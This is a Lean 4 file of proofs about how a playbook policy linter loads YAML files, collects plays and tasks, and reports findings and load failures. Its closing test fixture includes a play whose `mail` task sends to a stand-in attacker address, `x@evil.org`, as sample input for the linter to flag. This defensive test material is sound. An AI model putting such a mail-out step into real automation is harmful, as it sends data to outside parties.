import PlaybookPolicy.Program

/-!
# What a loaded file holds

Loading a file reads its text, reads the document that the text writes, and collects plays and tasks
from it by the kind of the file.  Each of these steps is taken apart here once: what it needs to
succeed, and what it then gives.  A run loads its files one by one, and gathers what the rules find
in them.

## Main definitions

* `PlaybookFile.documentItems` — the items of a document.
* `FileTree.findingsAt`, `FileTree.failureAt?` — what a run makes of one of its files.

## Main results

* `collectPlays_cons_eq_ok_iff` — one play of a playbook, with its line and its tasks.
* `exists_collectPlays_iff` — a playbook loads exactly if each of its plays does.
* `PlaybookFile.cases_of_ofDocument` — the plays and tasks of a document, by the kind of the file.
* `PlaybookFile.play_of_ofDocument` — the plays of a file are those of a playbook with its path.
* `FileTree.load_eq_ok_iff` — a file loads if its text can be read and parsed.
* `Outcome.ofFiles_eq`, `FileTree.lint_eq` — a run goes through its files one by one.
-/

namespace PlaybookPolicy

open Yaml (Value Mapping)

/-! ### Plays -/

/-- A play that a mapping writes has the kind and the path of its file, and no line yet. -/
theorem Play.of_ofMapping {kind : FileKind} {path : Path} {m : Mapping} {play : Play}
    (h : Play.ofMapping kind path m = .ok play) :
    play.kind = kind ∧ play.path = path ∧ play.line = none := by
  rw [Play.ofMapping] at h
  cases hc : Play.collectionsOf m with
  | error e => rw [hc] at h; cases h
  | ok collections => rw [hc] at h; cases h; exact ⟨rfl, rfl, rfl⟩

/-- **One play of a playbook.**  Its mapping writes a play, which gets the line of its name or the
first one; its tasks are those of its sections, and the plays behind it are looked for below all
lines found so far. -/
theorem collectPlays_cons_eq_ok_iff {names : NameLines} {path : Path} {cursor : Nat} {m : Mapping}
    {l : List Mapping} {plays : List Play} {tasks : List Task} :
    collectPlays names path cursor (m :: l) = .ok (plays, tasks) ↔
      ∃ play, Play.ofMapping .playbook path m = .ok play ∧
        ∃ line, line = names.locateName? play.name cursor ∧
        ∃ found, found = collectSections names (line.getD cursor) m (line.getD cursor)
          playSections ∧
        ∃ rest more, collectPlays names path found.2 l = .ok (rest, more) ∧
          plays = { play with line := some (line.getD 1) } :: rest ∧
          tasks = found.1 ++ more := by
  rw [collectPlays]
  cases hp : Play.ofMapping .playbook path m with
  | error e => simp
  | ok play =>
    simp only [Except.ok.injEq, exists_eq_left', exists_eq_left]
    cases collectPlays names path
        (collectSections names ((names.locateName? play.name cursor).getD cursor) m
          ((names.locateName? play.name cursor).getD cursor) playSections).2 l with
    | error e => simp [Except.map]
    | ok r =>
      obtain ⟨rest, more⟩ := r
      simp only [Except.map, Except.ok.injEq, Prod.mk.injEq]
      constructor
      · rintro ⟨rfl, rfl⟩
        exact ⟨rest, more, ⟨rfl, rfl⟩, rfl, rfl⟩
      · rintro ⟨_, _, ⟨rfl, rfl⟩, rfl, rfl⟩
        exact ⟨rfl, rfl⟩

/-- **A playbook loads exactly if each of its plays does**: the lines of the file have no say. -/
theorem exists_collectPlays_iff (names : NameLines) (path : Path) :
    ∀ (l : List Mapping) (cursor : Nat),
      (∃ plays tasks, collectPlays names path cursor l = .ok (plays, tasks)) ↔
        ∀ m ∈ l, ∃ play, Play.ofMapping .playbook path m = .ok play := by
  intro l
  induction l with
  | nil => intro cursor; simp [collectPlays]
  | cons m l ih =>
    intro cursor
    rw [List.forall_mem_cons]
    constructor
    · rintro ⟨plays, tasks, h⟩
      obtain ⟨play, hp, line, -, found, -, rest, more, hrest, -⟩ :=
        collectPlays_cons_eq_ok_iff.mp h
      exact ⟨⟨play, hp⟩, (ih found.2).mp ⟨rest, more, hrest⟩⟩
    · rintro ⟨⟨play, hp⟩, hl⟩
      obtain ⟨rest, more, hrest⟩ := (ih _).mpr hl
      exact ⟨_, _, collectPlays_cons_eq_ok_iff.mpr
        ⟨play, hp, _, rfl, _, rfl, rest, more, hrest, rfl, rfl⟩⟩

theorem play_of_collectPlays {names : NameLines} {path : Path} :
    ∀ {l : List Mapping} {cursor : Nat} {plays : List Play} {tasks : List Task},
      collectPlays names path cursor l = .ok (plays, tasks) →
        ∀ p ∈ plays, p.kind = .playbook ∧ p.path = path := by
  intro l
  induction l with
  | nil =>
    intro cursor plays tasks h
    cases h
    simp
  | cons m l ih =>
    intro cursor plays tasks h
    obtain ⟨play, hp, line, -, found, -, rest, more, hrest, rfl, -⟩ :=
      collectPlays_cons_eq_ok_iff.mp h
    obtain ⟨hkind, hpath, -⟩ := Play.of_ofMapping hp
    rw [List.forall_mem_cons]
    exact ⟨⟨hkind, hpath⟩, ih hrest⟩

/-! ### Documents -/

namespace PlaybookFile

/-- The items of a document. -/
def documentItems : Value → List Value
  | .sequence items => items
  | _ => []

/-- A list of tasks or handlers is walked from its start. -/
theorem ofDocument_of_taskList {path : Path} (names : NameLines) {document : Value}
    (hkind : FileKind.ofDocument path document = .tasks ∨
      FileKind.ofDocument path document = .handlers) :
    ofDocument path names document = .ok
      { path, kind := FileKind.ofDocument path document, plays := [],
        tasks := (collectTasks names 0 (documentItems document)).1 } := by
  cases document with
  | sequence items =>
    rcases hkind with hkind | hkind <;> simp only [ofDocument, hkind, documentItems]
  | _ => rcases hkind with hkind | hkind <;> cases hkind

/-- **The plays and tasks of a document, by the kind of the file.** -/
theorem cases_of_ofDocument {path : Path} {names : NameLines} {document : Value} {f : PlaybookFile}
    (h : ofDocument path names document = .ok f) :
    f.path = path ∧ f.kind = FileKind.ofDocument path document ∧
      ((f.kind = .playbook ∧ ∃ items, document = .sequence items ∧
          collectPlays names path 0 (playMappings items) = .ok (f.plays, f.tasks)) ∨
        ((f.kind = .tasks ∨ f.kind = .handlers) ∧ ∃ items, document = .sequence items ∧
          f.plays = [] ∧ f.tasks = (collectTasks names 0 items).1) ∨
        (f.kind = .other ∧ f.plays = [] ∧ f.tasks = [])) := by
  cases document with
  | sequence items =>
    cases hk : FileKind.ofDocument path (.sequence items) with
    | playbook =>
      simp only [ofDocument, hk] at h
      cases hc : collectPlays names path 0 (playMappings items) with
      | error e => rw [hc] at h; cases h
      | ok r =>
        rw [hc] at h
        cases h
        exact ⟨rfl, rfl, .inl ⟨rfl, items, rfl, hc⟩⟩
    | tasks =>
      simp only [ofDocument, hk] at h
      cases h
      exact ⟨rfl, rfl, .inr (.inl ⟨.inl rfl, items, rfl, rfl, rfl⟩)⟩
    | handlers =>
      simp only [ofDocument, hk] at h
      cases h
      exact ⟨rfl, rfl, .inr (.inl ⟨.inr rfl, items, rfl, rfl, rfl⟩)⟩
    | other =>
      simp only [ofDocument, hk] at h
      cases h
      exact ⟨rfl, rfl, .inr (.inr ⟨rfl, rfl, rfl⟩)⟩
  | _ =>
    cases h
    exact ⟨rfl, rfl, .inr (.inr ⟨rfl, rfl, rfl⟩)⟩

/-- **A document loads unless it is a playbook with a play that does not**, whatever names the lines
of its text declare. -/
theorem exists_ofDocument_iff (path : Path) (names : NameLines) (document : Value) :
    (∃ f, ofDocument path names document = .ok f) ↔
      ∀ items, document = .sequence items → FileKind.ofDocument path document = .playbook →
        ∀ m ∈ playMappings items, ∃ play, Play.ofMapping .playbook path m = .ok play := by
  cases document with
  | sequence items =>
    cases hk : FileKind.ofDocument path (.sequence items) with
    | playbook =>
      have hplays := exists_collectPlays_iff names path (playMappings items) 0
      simp only [ofDocument, hk, Value.sequence.injEq, forall_eq', true_implies]
      rw [← hplays]
      cases collectPlays names path 0 (playMappings items) with
      | error e => simp [Except.map]
      | ok r =>
        obtain ⟨plays, tasks⟩ := r
        simp [Except.map]
    | _ => simp [ofDocument, hk]
  | _ => simp [ofDocument, FileKind.ofDocument]

/-- The plays of a file are plays of a playbook with the path of the file. -/
theorem play_of_ofDocument {path : Path} {names : NameLines} {document : Value} {f : PlaybookFile}
    (h : ofDocument path names document = .ok f) :
    ∀ p ∈ f.plays, p.kind = .playbook ∧ p.path = path := by
  obtain ⟨-, -, ⟨-, items, -, hc⟩ | ⟨-, items, -, hp, -⟩ | ⟨-, hp, -⟩⟩ := cases_of_ofDocument h
  · exact play_of_collectPlays hc
  · rw [hp]; simp
  · rw [hp]; simp

theorem parse_eq_ok_iff {path : Path} {content : String} {f : PlaybookFile} :
    parse path content = .ok f ↔ ∃ document, readDocument path content = .ok document ∧
      ofDocument path (NameLines.of content) document = .ok f := by
  rw [parse]
  cases readDocument path content with
  | error e => simp
  | ok document => simp

/-- A finding in a file bears the path that the file and its plays bear. -/
theorem file_of_mem_findings {f : PlaybookFile} {p : Path} (hpath : f.path = p)
    (hplays : ∀ play ∈ f.plays, play.path = p) {g : Registry} {x : Finding}
    (h : x ∈ f.findings g) : x.file = p := by
  simp only [findings, playFindings, taskFindings, Rule.playFindings, Rule.taskFindings,
    List.mem_append, List.mem_flatMap, List.mem_map] at h
  obtain ⟨play, hplay, rule, -, message, -, rfl⟩ | ⟨task, -, rule, -, message, -, rfl⟩ := h
  · exact hplays play hplay
  · exact hpath

end PlaybookFile

/-! ### Outcomes -/

namespace Outcome

theorem passed_iff (o : Outcome) : o.passed = true ↔ o.findings = [] ∧ o.failures = [] := by
  rw [passed, Bool.and_eq_true, List.isEmpty_iff, List.isEmpty_iff]

/-- **A run goes through its files one by one**, and then sorts what it has found. -/
theorem ofFiles_eq (g : Registry) (load : Path → Except LoadError PlaybookFile)
    (files : List Path) :
    ofFiles g load files =
      { findings := (files.flatMap fun p => LoadResult.findings g
          { path := p, result := load p }).mergeSort Finding.comesBefore
        failures := (files.filterMap fun p => LoadResult.failure?
          { path := p, result := load p }).mergeSort LoadFailure.comesBefore
        filesChecked := files.length
        rulesExecuted := g.size } := by
  rw [ofFiles, ofResults, List.flatMap_map, List.filterMap_map, List.length_map]
  rfl

/-- Only how the files of a run load has a part in its outcome. -/
theorem ofFiles_congr {g : Registry} {load load' : Path → Except LoadError PlaybookFile}
    {files : List Path} (h : ∀ p ∈ files, load' p = load p) :
    ofFiles g load' files = ofFiles g load files := by
  have hresults : (files.map fun path => ({ path, result := load' path } : LoadResult)) =
      files.map fun path => { path, result := load path } := by
    refine List.map_congr_left fun p hp => ?_
    rw [h p hp]
  rw [ofFiles, ofFiles, hresults]

end Outcome

/-! ### Files -/

namespace FileTree

/-- A file loads if its text can be read and parsed. -/
theorem load_eq_ok_iff {t : FileTree} {p : Path} {f : PlaybookFile} :
    t.load p = .ok f ↔ ∃ content, t.readText p = .ok content ∧
      PlaybookFile.parse p content = .ok f := by
  rw [load]
  cases t.readText p with
  | error e => simp
  | ok content => simp

/-- A loaded file has the path it was loaded from, and so have its plays, which are plays of a
playbook. -/
theorem path_of_load {t : FileTree} {p : Path} {f : PlaybookFile} (h : t.load p = .ok f) :
    f.path = p ∧ ∀ play ∈ f.plays, play.kind = .playbook ∧ play.path = p := by
  obtain ⟨content, -, hparse⟩ := load_eq_ok_iff.mp h
  obtain ⟨document, -, hdoc⟩ := PlaybookFile.parse_eq_ok_iff.mp hparse
  exact ⟨(PlaybookFile.cases_of_ofDocument hdoc).1, PlaybookFile.play_of_ofDocument hdoc⟩

/-! ### Runs -/

/-- What the rules find in the file that a path leads to; nothing if it does not load. -/
def findingsAt (t : FileTree) (g : Registry) (p : Path) : List Finding :=
  match t.load p with
  | .ok f => f.findings g
  | .error _ => []

theorem findingsAt_of_load {t : FileTree} {g : Registry} {p : Path} {f : PlaybookFile}
    (h : t.load p = .ok f) : t.findingsAt g p = f.findings g := by
  rw [findingsAt, h]

/-- The failure of the file that a path leads to, if it does not load. -/
def failureAt? (t : FileTree) (p : Path) : Option LoadFailure :=
  match t.load p with
  | .ok _ => none
  | .error error => some { path := p, error }

theorem lint_eq (t : FileTree) (g : Registry) (files : List Path) :
    t.lint g files =
      { findings := (files.flatMap (t.findingsAt g)).mergeSort Finding.comesBefore
        failures := (files.filterMap t.failureAt?).mergeSort LoadFailure.comesBefore
        filesChecked := files.length
        rulesExecuted := g.size } := by
  rw [lint, Outcome.ofFiles_eq]
  rfl

/-- A run passes if nothing is found in any of its files, and none fails. -/
theorem passed_lint_iff {t : FileTree} {g : Registry} {files : List Path} :
    (t.lint g files).passed = true ↔
      ∀ p ∈ files, t.findingsAt g p = [] ∧ t.failureAt? p = none := by
  rw [lint_eq, Outcome.passed_iff, ← List.perm_nil, (List.mergeSort_perm _ _).congr_left,
    List.perm_nil, List.flatMap_eq_nil_iff, ← List.perm_nil,
    (List.mergeSort_perm _ _).congr_left, List.perm_nil, List.filterMap_eq_nil_iff]
  exact ⟨fun h p hp => ⟨h.1 p hp, h.2 p hp⟩, fun h => ⟨fun p hp => (h p hp).1,
    fun p hp => (h p hp).2⟩⟩

/-- A finding in a file bears its path. -/
theorem file_of_mem_findingsAt {t : FileTree} {g : Registry} {p : Path} {x : Finding}
    (h : x ∈ t.findingsAt g p) : x.file = p := by
  rw [findingsAt] at h
  cases hf : t.load p with
  | error e => rw [hf] at h; cases h
  | ok f =>
    obtain ⟨hpath, hplays⟩ := path_of_load hf
    rw [hf] at h
    exact PlaybookFile.file_of_mem_findings hpath (fun play hplay => (hplays play hplay).2) h

theorem path_of_failureAt? {t : FileTree} {p : Path} {x : LoadFailure}
    (h : t.failureAt? p = some x) : x.path = p := by
  rw [failureAt?] at h
  cases hf : t.load p with
  | error e => rw [hf] at h; cases h; rfl
  | ok f => rw [hf] at h; cases h

/-- A broken file, and a play that declares no collection and mails to a foreign address. -/
def sampleTree : FileTree where
  nodes :=
    [([Text.Utf8.encode "b.yml"], .file (Text.Utf8.encode "- [")),
     ([Text.Utf8.encode "a.yml"], .file (Text.Utf8.encode
        ("- hosts: all\n" ++
         "  tasks:\n" ++
         "    - mail:\n" ++
         "        to: [x@evil.org, 7]\n")))]
  here := []

end FileTree

end PlaybookPolicy
